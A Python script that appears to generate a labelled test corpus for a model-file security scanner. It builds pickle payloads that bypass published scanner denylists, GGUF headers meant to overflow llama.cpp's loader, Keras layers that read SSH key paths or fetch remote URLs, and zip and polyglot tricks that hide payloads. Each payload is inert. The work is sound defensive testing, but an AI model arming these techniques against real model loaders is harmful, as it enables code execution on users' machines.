def _stack_call(module: str, name: str, *args: bytes) -> bytes:
    """Protocol-4 STACK_GLOBAL (dotted names allowed) + MARK + args + TUPLE + REDUCE."""
    return s4(module) + s4(name) + b"\x93(" + b"".join(args) + b"tR"


def malicious_bypasses() -> None:
    """One inert file per published scanner bypass not covered above (source in labels)."""
    cmd = s4("import os; os.system('true')")
    new_obj = lambda module, name: s4(module) + s4(name) + b"\x93)\x81"  # noqa: E731
    cases: dict[str, tuple[bytes, str]] = {
        "trace_run.pkl": (
            p4(_stack_call("trace", "Trace.run", new_obj("trace", "Trace"), cmd)),
            "GHSA-5qwp-399c-mjwf (picklescan): trace.Trace.run",
        ),
        "trace_runctx.pkl": (
            p4(_stack_call("trace", "Trace.runctx", new_obj("trace", "Trace"), cmd, b"}}")),
            "GHSA-g344-hcph-8vgg (picklescan): trace.Trace.runctx",
        ),
        "profile_run.pkl": (
            p4(_stack_call("profile", "Profile.run", new_obj("profile", "Profile"), cmd)),
            "GHSA-x696-vm39-cp64 (picklescan): profile.Profile.run",
        ),
        "profile_runctx.pkl": (
            p4(_stack_call("profile", "Profile.runctx", new_obj("profile", "Profile"), cmd, b"}}")),
            "GHSA-6vqj-c2q5-j97w (picklescan): profile.Profile.runctx",
        ),
        "cprofile_runctx.pkl": (
            p4(_stack_call("cProfile", "runctx", cmd, b"}}")),
            "GHSA-9w88-8rmg-7g2p (picklescan): cProfile.runctx",
        ),
        "cprofile_run.pkl": (
            call0("cProfile", "run", "import os; os.system('true')") + b".",
            "GHSA-4675-36f9-wf6r (picklescan): cProfile.run",
        ),
        "lib2to3_grammar_loads.pkl": (
            p4(
                _stack_call(
                    "lib2to3.pgen2.grammar",
                    "Grammar.loads",
                    new_obj("lib2to3.pgen2.grammar", "Grammar"),
                    b"C"
                    + bytes([len(call0("os", "system", "true") + b".")])
                    + call0("os", "system", "true")
                    + b".",
                )
            ),
            "GHSA-f54q-57x4-jg88 (picklescan): lib2to3.pgen2.grammar.Grammar.loads",
        ),
        "lib2to3_make_label.pkl": (
            p4(
                _stack_call(
                    "lib2to3.pgen2.pgen",
                    "ParserGenerator.make_label",
                    new_obj("lib2to3.pgen2.pgen", "ParserGenerator"),
                    b"N",
                    s4('\'__import__("os").system("true")\''),
                )
            ),
            "GHSA-p9w7-82w4-7q8m (picklescan): lib2to3 ParserGenerator.make_label (eval)",
        ),
        "idlelib_get_entity.pkl": (
            p4(
                _stack_call(
                    "idlelib.autocomplete",
                    "AutoComplete.get_entity",
                    new_obj("idlelib.autocomplete", "AutoComplete"),
                    s4("__import__('os').system('true')"),
                )
            ),
            "GHSA-6w4w-5w54-rjvr (picklescan): idlelib AutoComplete.get_entity (eval)",
        ),
        "idlelib_fetch_completions.pkl": (
            p4(
                _stack_call(
                    "idlelib.autocomplete",
                    "AutoComplete.fetch_completions",
                    new_obj("idlelib.autocomplete", "AutoComplete"),
                    s4("__import__('os').system('true')"),
                    b"K\x01",
                )
            ),
            "GHSA-7cq8-mj8x-j263 (picklescan): idlelib AutoComplete.fetch_completions",
        ),
        "idlelib_debugobj.pkl": (
            p4(_stack_call("idlelib.debugobj", "ObjectTreeItem", s4("x"), b"N", b"N")),
            "GHSA-3vg9-h568-4w9m (picklescan): idlelib.debugobj.ObjectTreeItem",
        ),
        "idlelib_executive_runcode.pkl": (
            p4(
                _stack_call(
                    "idlelib.run", "Executive.runcode", new_obj("idlelib.run", "Executive"), cmd
                )
            ),
            "GHSA-m869-42cg-3xwr (picklescan): idlelib.run.Executive.runcode",
        ),
        "idlelib_runcommand.pkl": (
            p4(
                _stack_call(
                    "idlelib.pyshell",
                    "ModifiedInterpreter.runcommand",
                    new_obj("idlelib.pyshell", "ModifiedInterpreter"),
                    cmd,
                )
            ),
            "GHSA-j343-8v2j-ff7w (picklescan): idlelib ModifiedInterpreter.runcommand",
        ),
        "doctest_debug_script.pkl": (
            call0("doctest", "debug_script", "import os; os.system('true')") + b".",
            "GHSA-fqq6-7vqf-w3fg (picklescan): doctest.debug_script",
        ),
        "torch_bottleneck.pkl": (
            p4(_stack_call("torch.utils.bottleneck.__main__", "run_autograd_prof", cmd, b"}")),
            "GHSA-4whj-rm5r-c2v8 (picklescan): torch.utils.bottleneck.__main__.run_autograd_prof",
        ),
        "code_interpreter_runcode.pkl": (
            p4(
                _stack_call(
                    "code",
                    "InteractiveInterpreter.runcode",
                    new_obj("code", "InteractiveInterpreter"),
                    cmd,
                )
            ),
            "mmaitre314/picklescan PR #48: code.InteractiveInterpreter.runcode",
        ),
        "numpy_runstring.pkl": (
            call0("numpy.testing._private.utils", "runstring", "import os")[:-2] + b"(dtR.",
            "fickling PR #210 / picklescan: numpy.testing._private.utils.runstring (exec)",
        ),
        "runpy_run_code.pkl": (
            p4(_stack_call("runpy", "_run_code", cmd, b"}")),
            "picklescan denylist (runpy): runpy._run_code",
        ),
        "pty_spawn_reduce.pkl": (
            call0("pty", "spawn", "true") + b".",
            "picklescan denylist: pty.spawn",
        ),
        "ctypes_cdll.pkl": (
            call0("ctypes", "CDLL", "/nonexistent/libpayload.so") + b".",
            "ctypes library load (fickling UNSAFE_IMPORTS)",
        ),
        "webbrowser_open.pkl": (
            call0("webbrowser", "open", "http://127.0.0.1:9/") + b".",
            "picklescan denylist: webbrowser.open",
        ),
        "distutils_write_file.pkl": (
            glob0("distutils.file_util", "write_file") + b"(S'/nonexistent/x'\n(S'x'\nltR.",
            "CVE-2025-10155/10156 list in fickling PR #210: distutils.file_util.write_file",
        ),
        "io_fileio.pkl": (
            glob0("_io", "FileIO") + b"(S'/nonexistent/x'\nS'w'\ntR.",
            "fickling PR #210: _io.FileIO",
        ),
        "setuptools_spawn.pkl": (
            glob0("setuptools._distutils.spawn", "spawn") + b"((S'true'\nltR.",
            "distutils/setuptools helpers (spawn)",
        ),
        "torch_hub_load.pkl": (
            call0("torch.hub", "load", "127.0.0.1/x") + b".",
            "torch.hub.load (downloads and runs hubconf.py)",
        ),
        "torch_inductor_compile.pkl": (
            call0("torch._inductor.codecache", "compile_file", "/nonexistent/x") + b".",
            "torch._inductor code-cache helpers",
        ),
        "functools_partial.pkl": (
            glob0("functools", "partial") + b"(" + glob0("os", "system") + b"S'true'\ntR)R.",
            "fickling PR #210: functools.partial wrapper",
        ),
        "underscore_operator_attrgetter.pkl": (
            call0("_operator", "attrgetter", "system")
            + b"("
            + call0("importlib", "import_module", "os")
            + b"tR(S'true'\ntR.",
            "GHSA-955r-x9j8-7rhh (picklescan): _operator.attrgetter",
        ),
        "getattr_on_module_global.pkl": (
            glob0("builtins", "getattr") + b"(" + glob0("os", "path") + b"S'os'\ntR.",
            "builtins.getattr on a module global",
        ),
        "inst_proto0.pkl": (b"(S'true'\nios\nsystem\n.", "protocol-0 INST"),
        "ext4_code.pkl": (b"\x80\x02\x84\x07\x01\x00\x00(S'true'\ntR.", "EXT4 registry code"),
        "build_function_dict.pkl": (
            glob0("torch.nn.modules.module", "Module.__init__") + b"N}S'__globals__'\n}sb.",
            "__dict__ update of a function (BUILD on a global)",
        ),
        "copyreg_reconstructor_os.pkl": (
            glob0("copyreg", "_reconstructor")
            + b"("
            + glob0("os", "system")
            + glob0("builtins", "str")
            + b"S'true'\ntR.",
            "copyreg dispatch: _reconstructor with os.system as the class",
        ),
        "defaultdict_factory.pkl": (
            glob0("collections", "defaultdict") + b"(" + glob0("os", "getcwd") + b"tR.",
            "protectai/modelaudit PR #1063: defaultdict factory",
        ),
        "torch_load_from_bytes.pkl": (
            glob0("torch.storage", "_load_from_bytes")
            + b"(C"
            + bytes([len(call0("os", "system", "true") + b".")])
            + call0("os", "system", "true")
            + b".tR.",
            "torch.storage._load_from_bytes re-enters torch.load(weights_only=False)",
        ),
        "pandas_excelwriter.pkl": (
            call0("pandas", "ExcelWriter", "/nonexistent/x.xlsx") + b".",
            "research: a pandas top-level re-export that opens a file when constructed",
        ),
        "uuid_get_command_stdout.pkl": (
            call0("uuid", "_get_command_stdout", "true") + b".",
            "promptfoo/modelaudit PR #581: uuid._get_command_stdout",
        ),
        "configparser_read.pkl": (
            p4(
                _stack_call(
                    "configparser",
                    "RawConfigParser.read",
                    new_obj("configparser", "RawConfigParser"),
                    s4("/nonexistent/x.ini"),
                )
            ),
            "promptfoo/modelaudit PR #1059: configparser RawConfigParser.read",
        ),
        "argparse_filetype.pkl": (
            glob0("argparse", "FileType") + b"(S'w'\ntR(S'/nonexistent/x'\ntR.",
            "promptfoo/modelaudit PR #1059: argparse.FileType",
        ),
        "type_dynamic_del.pkl": (
            p4(
                s4("builtins")
                + s4("type")
                + b"\x93("
                + s4("P")
                + b"("
                + s4("pathlib")
                + s4("PurePosixPath")
                + b"\x93t}"
                + s4("__del__")
                + s4("pathlib")
                + s4("Path.touch")
                + b"\x93stR)R"
            ),
            "promptfoo/modelaudit PR #1375: builtins.type class with a __del__ hook",
        ),
        "str_format_lookup.pkl": (
            p4(_stack_call("builtins", "str.format", s4("{0.__class__}"), b"N")),
            "promptfoo/modelaudit PR #1216: str.format attribute lookup",
        ),
        "re_sub_callback.pkl": (
            p4(_stack_call("re", "sub", s4("x"), s4("os") + s4("system") + b"\x93", s4("true"))),
            "promptfoo/modelaudit PR #1061: re.sub with a callable replacement",
        ),
        "joblib_wrapper_abs_path.pkl": (
            b"\x80\x02"
            + glob0("joblib.numpy_pickle", "NDArrayWrapper")
            + b")\x81}(U\x08filenameU\x18/nonexistent/payload.npyU\x08subclass"
            + glob0("numpy", "ndarray")
            + b"ub.",
            "joblib < 0.10 array wrapper: np.load(allow_pickle=True) of a file outside the folder",
        ),
        "modelscan85_numpy_prod_build.pkl": (
            b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\n"
            b"p0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vtrue\n\x85R.",
            "protectai/modelscan#85: BUILD plants names on numpy.prod, then STACK_GLOBAL",
        ),
    }
    for name, (data, source) in cases.items():
        put("malicious", f"bypass/{name}", data, "unsafe", source)
    _malicious_container_tricks()
    _malicious_keras_loaders()
    _malicious_gguf_headers()


def _malicious_gguf_headers() -> None:
    """GGUF headers shaped to break llama.cpp's loader (published memory-safety fixes)."""

    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    def kv_str(key: str, value: str) -> bytes:
        return text(key) + struct.pack("<I", 8) + text(value)

    def kv_u32(key: str, value: int) -> bytes:
        return text(key) + struct.pack("<II", 4, value)

    def header(n_tensors: int, kvs: list[bytes]) -> bytes:
        return b"GGUF" + struct.pack("<IQQ", 3, n_tensors, len(kvs)) + b"".join(kvs)

    def tensor(name: str, dims: list[int], ggml_type: int = 0) -> bytes:
        shape = b"".join(struct.pack("<Q", d) for d in dims)
        return text(name) + struct.pack("<I", len(dims)) + shape + struct.pack("<IQ", ggml_type, 0)

    arch = kv_str("general.architecture", "llama")
    scores = text("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 0, 3) + b"\x01\x02\x03"
    cases = {
        "tensor_dim_wraps.gguf": (
            header(1, [arch]) + tensor("token_embd.weight", [1152, (1 << 42) + 1]) + bytes(64),
            "ggml-org/llama.cpp PR #18674: dimension whose byte size wraps to 0",
        ),
        "tensor_too_many_dims.gguf": (
            header(1, [arch]) + text("w") + struct.pack("<I", 64) + bytes(600),
            "GGML_MAX_DIMS exceeded in the tensor-info table (heap overflow)",
        ),
        "n_tensors_overflow.gguf": (
            b"GGUF" + struct.pack("<IQQ", 3, (1 << 63) // 88, 1) + arch,
            "ggml-org/llama.cpp#15711: n_tensors sized to overflow the allocation",
        ),
        "string_length_overflow.gguf": (
            b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", (1 << 64) - 1) + b"k",
            "ggml-org/llama.cpp PR #19856: string length that wraps",
        ),
        "scores_wrong_type.gguf": (
            header(0, [arch, scores]),
            "ggml-org/llama.cpp PR #26690: tokenizer scores as UINT8 read as float (OOB read)",
        ),
        "block_count_oob.gguf": (
            header(0, [arch, kv_u32("llama.block_count", 4096)]),
            "ggml-org/llama.cpp PR #25821: block_count past LLAMA_MAX_LAYERS (OOB write)",
        ),
    }
    for name, (data, source) in cases.items():
        put("malicious", f"gguf2/{name}", data, "unsafe", source)


def _malicious_keras_loaders() -> None:
    benign = (BENIGN / "keras/dense.keras").read_bytes()
    for name, layer, source in (
        (
            "tfsmlayer.keras",
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "config": {"name": "sm", "filepath": "/nonexistent/saved_model"},
                "registered_name": None,
            },
            "keras-team/keras PR #22035: TFSMLayer loads an external SavedModel",
        ),
        (
            "string_lookup_file.keras",
            {
                "module": "keras.layers",
                "class_name": "StringLookup",
                "config": {"name": "lk", "vocabulary": "/nonexistent/.ssh/id_rsa"},
                "registered_name": None,
            },
            "keras-team/keras PR #21751/#23050: lookup vocabulary read from any path",
        ),
        (
            "integer_lookup_remote.keras",
            {
                "module": "keras.layers",
                "class_name": "IntegerLookup",
                "config": {"name": "lk", "vocabulary": "http://127.0.0.1:9/vocab.txt"},
                "registered_name": None,
            },
            "keras-team/keras PR #23050: vocabulary fetched through tf.io.gfile (SSRF)",
        ),
    ):
        put("malicious", f"keras2/{name}", _add_keras_layer(benign, layer), "unsafe", source)


def _add_keras_layer(data: bytes, layer: dict[str, object]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(content)
                config["config"]["layers"].append(layer)
                content = json.dumps(config).encode()
            dst.writestr(item, content)
    return out.getvalue()


def _malicious_container_tricks() -> None:
    import torch

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, ("true",))

    payload = pickle.dumps(Evil(), protocol=2)
    buf = io.BytesIO()
    torch.save({"w": torch.ones(2), "hook": Evil()}, buf)
    evil_zip = buf.getvalue()
    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    clean_zip = buf.getvalue()
    out = "bypass_zip"
    # nullifAI (ReversingLabs, Feb 2025): torch layout compressed with 7z, the pickle
    # broken right after the payload (torch.load fails, the payload already ran)
    try:
        import py7zr

        path = MALICIOUS / out / "nullifai_7z_broken.bin"
        path.parent.mkdir(parents=True, exist_ok=True)
        with py7zr.SevenZipFile(path, "w") as archive:
            archive.writestr(payload[:-1] + b"\x00\xffbroken", "model/data.pkl")
            archive.writestr(b"\x00" * 16, "model/data/0")
        label(path, "malicious", "unsafe", "nullifAI (ReversingLabs): 7z torch, broken pickle")
    except ImportError:
        pass
    with zipfile.ZipFile(io.BytesIO(evil_zip)) as src:
        names = src.namelist()
        members = {n: src.read(n) for n in names}
    prefix = names[0].split("/")[0]
    # duplicate names: a clean data.pkl first, the payload under the same name last
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as z:
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(io.BytesIO(clean_zip)) as clean:
            z.writestr(f"{prefix}/data.pkl", clean.read(f"{prefix}/data.pkl"))
        for name, data in members.items():
            z.writestr(name, data)
    put(
        "malicious",
        f"{out}/duplicate_data_pkl.pt",
        buf.getvalue(),
        "unsafe",
        "zip with two data.pkl members (scanners read the first, loaders the last)",
    )
    # torch's persistent_load receives ('storage', storage_type, key, location, numel):
    # a global in the storage-type slot is imported, and REDUCE on the persistent
    # object calls whatever persistent_load returned
    pid_global = (
        b"\x80\x02(X\x07\x00\x00\x00storage"
        + glob0("os", "system")
        + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ."
    )
    pid_call = b"\x80\x02X\x01\x00\x00\x000Q(S'true'\ntR."
    for name, pickled, source in (
        (
            "binpersid_storage_type.pt",
            pid_global,
            "BINPERSID tuple naming os.system as storage type",
        ),
        ("persid_called.pt", pid_call, "REDUCE on what torch's persistent_load returned"),
    ):
        pbuf = io.BytesIO()
        with zipfile.ZipFile(pbuf, "w") as z:
            z.writestr("archive/data.pkl", pickled)
            z.writestr("archive/version", "3\n")
            z.writestr("archive/data/0", b"\x00" * 4)
        put("malicious", f"{out}/{name}", pbuf.getvalue(), "unsafe", source)
    put(
        "malicious",
        f"{out}/bytes_before_zip.pt",
        b"\x00" * 64 + evil_zip,
        "unsafe",
        "bytes before the zip (readers that require PK at offset 0 skip it)",
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name.replace(f"{prefix}/", f"{prefix}/nested/dir/", 1), data)
    put(
        "malicious",
        f"{out}/unexpected_folder.pt",
        buf.getvalue(),
        "unsafe",
        "data.pkl under an unexpected folder",
    )
    put(
        "malicious",
        f"{out}/pickle_zip_polyglot.pt",
        payload + clean_zip,
        "unsafe",
        "polyglot: a pickle followed by a clean torch zip (torch.load reads the pickle)",
    )
    for ext in (".bin", ".ckpt", ".pth", ".h5", ".joblib", ".npy", ".onnx", ".gguf"):
        put(
            "malicious",
            f"{out}/renamed_pickle{ext}",
            payload,
            "unsafe",
            f"CVE-2025-1889/CVE-2025-10155: a raw pickle named *{ext}",
        )
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tar:
        for name, data in (
            ("sys_info", pickle.dumps({"protocol_version": 1001}, 2)),
            ("pickle", payload),
            ("storages", pickle.dumps(0, 2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    put(
        "malicious",
        f"{out}/torch_legacy_tar.pt",
        tbuf.getvalue(),
        "unsafe",
        "torch's legacy tar format (sys_info/pickle/storages members)",
    )
    import bz2
    import lzma

    put(
        "malicious", f"{out}/payload.pkl.bz2", bz2.compress(payload), "unsafe", "bz2-wrapped pickle"
    )
    put("malicious", f"{out}/payload.pkl.xz", lzma.compress(payload), "unsafe", "xz-wrapped pickle")
    put(
        "malicious",
        f"{out}/payload_in_npz.npz",
        _npz_with_pickle_member(payload),
        "unsafe",
        "npz-named archive whose member is a raw pickle (any loader that unpickles members)",
    )


def _npz_with_pickle_member(payload: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("arr_0.npy", payload)
    return buf.getvalue()


# ------------------------------------------------------------ user classes (Lightning)

_LITPROJ = """\
import enum
from typing import NamedTuple


class Stage(enum.Enum):
    TRAIN = "train"
    EVAL = "eval"


class Precision(enum.IntEnum):
    FP32 = 32
    BF16 = 16


class Optim(str, enum.Enum):
    ADAM = "adam"


class Aug(enum.Flag):
    FLIP = 1
    CROP = 2


class Kernel(enum.Enum):
    SMALL = (3, 3)


class Size(NamedTuple):
    h: int
    w: int
"""


def _stand_in(module: str, qualname: str) -> type:
    """A placeholder registered under ``module.qualname`` so pickle writes that name.

    Only its name reaches the file; nothing here is ever unpickled.
    """
    import types

    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        sys.modules.setdefault(".".join(parts[:i]), types.ModuleType(".".join(parts[:i])))
    stand_in = type(qualname, (), {"__module__": module, "__qualname__": qualname})
    setattr(sys.modules[module], qualname, stand_in)
    return stand_in


class _Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.func, self.args)


def lightning_user_classes() -> None:
    """A real Lightning checkpoint whose hyper_parameters hold the user's own Enums
    (pickled by value: ``Stage('train')``), and look-alikes that call something else."""
    import tempfile

    import lightning
    import torch

    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "litproj").mkdir()
        (Path(tmp) / "litproj" / "__init__.py").write_text("")
        (Path(tmp) / "litproj" / "config.py").write_text(_LITPROJ)
        sys.path.insert(0, tmp)
        try:
            from litproj.config import (  # type: ignore[import-not-found]
                Aug,
                Kernel,
                Optim,
                Precision,
                Size,
                Stage,
            )

            class Net(lightning.LightningModule):  # type: ignore[misc]
                def __init__(
                    self,
                    stage: object = Stage.TRAIN,
                    precision: object = Precision.BF16,
                    optim: object = Optim.ADAM,
                    aug: object = Aug.FLIP | Aug.CROP,
                    kernel: object = Kernel.SMALL,
                    size: object = Size(4, 4),
                    lr: float = 0.01,
                ) -> None:
                    super().__init__()
                    self.save_hyperparameters()
                    self.layer = torch.nn.Linear(4, 1)

                def training_step(self, batch: object, idx: int) -> object:
                    return self.layer(batch[0]).sum()  # type: ignore[index]

                def configure_optimizers(self) -> object:
                    return torch.optim.SGD(self.parameters(), lr=0.01)

            data = torch.utils.data.DataLoader(
                torch.utils.data.TensorDataset(torch.ones(4, 4)), batch_size=2
            )
            trainer = lightning.Trainer(
                max_steps=1,
                accelerator="cpu",
                logger=False,
                enable_progress_bar=False,
                enable_model_summary=False,
                enable_checkpointing=False,
                default_root_dir=tmp,
            )
            trainer.fit(Net(), data)
            out = BENIGN / "lightning"
            out.mkdir(parents=True, exist_ok=True)
            trainer.save_checkpoint(out / "user_enum.ckpt")
            label(
                out / "user_enum.ckpt",
                "benign",
                "suspicious",
                f"lightning {lightning.__version__} Trainer.save_checkpoint, save_hyperparameters "
                "with the user's Enum/IntEnum/str-Enum/Flag/tuple-Enum and NamedTuple: review, "
                "never unsafe",
            )
            ckpt = torch.load(out / "user_enum.ckpt", weights_only=False)  # our own file
        finally:
            sys.path.remove(tmp)
    import pandas

    # the user module did `from subprocess import Popen`
    popen = _stand_in("litproj.config", "Popen")
    client = _stand_in("distributed.client", "Client")
    make_stage = _stand_in("litproj.config", "make_stage")
    looks = {
        "enum_reexported_popen.ckpt": (
            _Reduce(popen, "true"),
            "a user module re-exports subprocess.Popen: litproj.config.Popen('true') "
            "looks like Stage('train')",
        ),
        "enum_function_argument.ckpt": (
            _Reduce(Stage, os.system),
            "an Enum-looking class handed a function (posix.system), which a constructor may call",
        ),
        "enum_nested_call.ckpt": (
            _Reduce(Stage, _Reduce(make_stage, "train")),
            "an Enum-looking class whose argument is built by calling a user-module function",
        ),
        "stdlib_gzip_writer.ckpt": (
            _Reduce(gzip.GzipFile, "/nonexistent/run.gz", "wb"),
            "a standard-library class whose constructor writes a file, called like an Enum",
        ),
        "pandas_hdfstore_writer.ckpt": (
            _Reduce(pandas.HDFStore, "/nonexistent/x.h5", "w"),
            "a known library's class (pandas.HDFStore opens a file for writing) with literals",
        ),
        "dask_client.ckpt": (
            _Reduce(client, "tcp://127.0.0.1:8786"),
            "distributed.Client('tcp://...') connects to a scheduler that sends pickles back",
        ),
        "user_function_call.ckpt": (
            _Reduce(make_stage, "train"),
            "a lowercase user-module function called with a literal (not a class)",
        ),
    }
    out = MALICIOUS / "lightning"
    out.mkdir(parents=True, exist_ok=True)
    for name, (payload, source) in looks.items():
        evil = dict(ckpt)
        evil["hyper_parameters"] = {**ckpt["hyper_parameters"], "stage": payload}
        torch.save(evil, out / name)
        label(out / name, "malicious", "unsafe", source)


# ------------------------------------------------------------ pandas HDFStore (PyTables)


class _Inert:
    """Pickles as ``os.system('true')`` (posix.system on Linux); never unpickled here."""

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, ("true",))


def _gzip_if_big(path: Path, limit: int = 200_000) -> Path:
    """PyTables preallocates whole chunks (a 65536-row VLArray is 1 MB of zeros): keep
    large files as .gz, which the scanner opens like any compressed wrapper."""
    if path.stat().st_size <= limit:
        return path
    packed = path.with_name(path.name + ".gz")
    packed.write_bytes(gzip.compress(path.read_bytes(), 9, mtime=0))
    path.unlink()
    return packed


def pandas_hdfstore() -> None:
    """pandas ``HDFStore`` files: PyTables pickles attributes (``non_index_axes``,
    ``info``, an index's ``freq``, user metadata) and object columns (VLArray rows)."""
    import warnings as _w

    import h5py
    import numpy as np
    import pandas as pd
    import tables

    _w.simplefilter("ignore")
    out = BENIGN / "pandas_hdf"
    out.mkdir(parents=True, exist_ok=True)
    df = pd.DataFrame(
        {
            "a": np.arange(6),
            "b": list("abcdef"),
            "mixed": [1, "x", 2.5, None, (1, 2), {"k": 1}],
            "cat": pd.Categorical(list("xyxyxy")),
        },
        index=pd.date_range("2024-01-01", periods=6, freq="D"),
    )
    multi = pd.DataFrame(
        {"v": np.arange(4.0)},
        index=pd.MultiIndex.from_product([["a", "b"], [1, 2]], names=["k", "n"]),
    )
    path = out / "hdfstore_fixed_table.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    with pd.HDFStore(path, "w") as store:
        store.put("fixed_df", df.drop(columns="cat"), format="fixed")
        # index=False: no PyTables column index (it preallocates about 2 MB)
        store.put(
            "table_df", df.drop(columns="mixed"), format="table", data_columns=["a"], index=False
        )
        store.put("multi", multi, format="table", index=False)
        store.put("series", pd.Series([1.0, 2.0], index=["x", "y"]))
        store.get_storer("table_df").attrs.metadata = {"run": "r1", "lr": 0.1}
    label(
        _gzip_if_big(path),
        "benign",
        "safe",
        f"pandas {pd.__version__} HDFStore (tables {tables.__version__}): fixed and table "
        "formats, object/categorical columns, freq index, MultiIndex, metadata attribute",
    )
    path = out / "hdfstore_compressed.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    df.drop(columns="cat").to_hdf(path, key="df", format="fixed", complevel=9, complib="zlib")
    label(
        _gzip_if_big(path),
        "benign",
        "safe",
        "pandas to_hdf(complevel=9, complib='zlib'), object column",
    )

    bad = MALICIOUS / "pandas_hdf"
    bad.mkdir(parents=True, exist_ok=True)
    path = bad / "metadata_attribute.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    with pd.HDFStore(path, "w") as store:
        store.put("df", df[["a", "b"]], format="table", index=False)
        store.get_storer("df").attrs.metadata = _Inert()  # PyTables pickles it (protocol 0)
    label(
        _gzip_if_big(path),
        "malicious",
        "unsafe",
        "HDFStore user metadata attribute holding a pickle: pandas.read_hdf unpickles it",
    )
    path = bad / "object_column.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    evil = pd.DataFrame({"a": [1, 2], "obj": [_Inert(), "x"]})
    evil.to_hdf(path, key="df", format="fixed")
    label(
        _gzip_if_big(path),
        "malicious",
        "unsafe",
        "object column in format='fixed': a VLArray row pickle",
    )
    path = bad / "object_column_zlib.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    evil.to_hdf(path, key="df", format="fixed", complevel=9, complib="zlib")
    label(
        _gzip_if_big(path),
        "malicious",
        "unsafe",
        "object column VLArray, deflate-compressed chunks",
    )
    path = bad / "index_freq_attribute.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    df[["a"]].to_hdf(path, key="df", format="fixed")
    with tables.open_file(path, "a") as h5:
        h5.get_node("/df/axis1")._v_attrs.freq = _Inert()
    label(
        _gzip_if_big(path),
        "malicious",
        "unsafe",
        "an index's pickled freq attribute replaced by a payload",
    )
    pandas_hdf_blosc_bzip2()
    path = bad / "h5py_latest_nested_group.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    with h5py.File(path, "w", libver="latest") as h5:
        group = h5.create_group("a/b/c")
        group.create_dataset("x", data=np.arange(3))
        group.attrs["meta"] = np.bytes_(pickle.dumps(_Inert(), protocol=0))
    label(
        _gzip_if_big(path),
        "malicious",
        "unsafe",
        "h5py libver='latest' (link messages): a string attribute ending in '.' in a nested "
        "group, which PyTables unpickles when it reads the node",
    )


# PyTables' other compressors: Blosc (HDF5 filter 32001, c-blosc's codecs) and bzip2 (307)
HDF_COMPLIBS = {
    "blosc": "blosc",  # blosc's default codec, BloscLZ
    "blosc_lz4": "blosc:lz4",
    "blosc_zlib": "blosc:zlib",
    "blosc_zstd": "blosc:zstd",
    "bzip2": "bzip2",
}


def pandas_hdf_blosc_bzip2() -> None:
    """Object columns (VLArray rows) in chunks compressed with Blosc or bzip2, and a pickled
    metadata attribute in a Blosc-compressed table (pandas + PyTables only, no h5py)."""
    import warnings as _w

    import pandas as pd
    import tables

    _w.simplefilter("ignore")
    out = BENIGN / "pandas_hdf"
    bad = MALICIOUS / "pandas_hdf"
    out.mkdir(parents=True, exist_ok=True)
    bad.mkdir(parents=True, exist_ok=True)
    df = pd.DataFrame(
        {"a": list(range(6)), "b": list("abcdef"), "mixed": [1, "x", 2.5, None, (1, 2), {"k": 1}]}
    )
    evil = pd.DataFrame({"a": [1, 2], "obj": [_Inert(), "x"]})
    versions = f"pandas {pd.__version__}, tables {tables.__version__}"
    for suffix, complib in HDF_COMPLIBS.items():
        for folder, frame, kind, expect in (
            (out, df, "benign", "safe"),
            (bad, evil, "malicious", "unsafe"),
        ):
            path = folder / f"object_column_{suffix}.h5"
            path.unlink(missing_ok=True)
            path.with_name(path.name + ".gz").unlink(missing_ok=True)
            frame.to_hdf(path, key="df", format="fixed", complevel=9, complib=complib)
            what = "a payload" if kind == "malicious" else "tuples, a dict, None"
            label(
                _gzip_if_big(path),
                kind,
                expect,
                f"to_hdf(complevel=9, complib={complib!r}) ({versions}): object column "
                f"VLArray rows ({what}) in {complib}-compressed chunks",
            )
    path = bad / "metadata_attribute_blosc.h5"
    path.unlink(missing_ok=True)
    path.with_name(path.name + ".gz").unlink(missing_ok=True)
    with pd.HDFStore(path, "w", complevel=9, complib="blosc") as store:
        store.put("df", evil[["a"]], format="table", index=False)
        store.get_storer("df").attrs.metadata = _Inert()  # PyTables pickles it (protocol 0)
    label(
        _gzip_if_big(path),
        "malicious",
        "unsafe",
        f"HDFStore(complevel=9, complib='blosc') table with a pickled user metadata attribute "
        f"({versions})",
    )


# ------------------------------------------------------------ LZ4 frame checksums


def lz4_checksums() -> None:
